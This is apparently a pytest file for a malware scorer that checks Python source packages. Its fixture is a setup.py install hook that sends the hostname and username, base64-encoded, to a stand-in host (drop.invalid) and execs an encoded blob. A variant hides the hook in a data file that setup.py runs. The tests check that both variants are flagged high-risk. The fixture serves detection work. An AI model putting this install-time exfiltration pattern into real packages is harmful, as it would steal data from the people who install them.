"""The same inert payload in setup.py and in a data file that setup.py runs: hiding it must not help."""

from pathlib import Path

import pytest

from knownhands.assess.artifact import score_artifact
from knownhands.learn.saved import load
from knownhands.records import Band
from knownhands.store.connection import memory_store
from packing import tgz

PAYLOAD = """
import base64, os, socket, urllib.request
from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)
        who = socket.gethostname() + os.environ.get("USER", "")
        urllib.request.urlopen("https://drop.invalid/in", data=base64.b64encode(who.encode()))
        exec(base64.b64decode("cHJpbnQoJ2luZXJ0Jyk="))


setup(name="pots", version="1.0", packages=["pots"], cmdclass={"install": Install})
"""
HONEST = """
from setuptools import setup

setup(name="pots", version="1.0", description="Fires pots", author="Ada", author_email="ada@pots.example",
      url="https://pots.example", license="MIT", packages=["pots"])
"""
KILN = "".join(
    f'def fire_{number}(clay):\n    """Fire one."""\n    return clay * {number}\n\n\n' for number in range(40)
)
ARCHIVES = {
    "in setup.py": {"setup.py": PAYLOAD},
    "in a data file": {"setup.py": 'exec(open("pots/notes.dat").read())\n', "pots/notes.dat": PAYLOAD},
}


def band(path: Path, files: dict[str, str]) -> Band:
    members = [(f"pots-1.0/{name}", body.encode()) for name, body in {"pots/__init__.py": KILN, **files}.items()]
    path.write_bytes(tgz(*members))
    with memory_store("package_schema") as connection:
        return score_artifact(connection, path, load(task="package_malware")).band


@pytest.mark.parametrize("files", ARCHIVES.values(), ids=ARCHIVES)
def test_wherever_the_payload_stands_the_package_is_high_risk(tmp_path, files):
    assert band(tmp_path / "pots-1.0.tar.gz", files) is Band.HIGH_RISK


def test_the_same_package_without_it_is_not(tmp_path):
    assert band(tmp_path / "pots-1.0.tar.gz", {"setup.py": HONEST}) is Band.ORDINARY
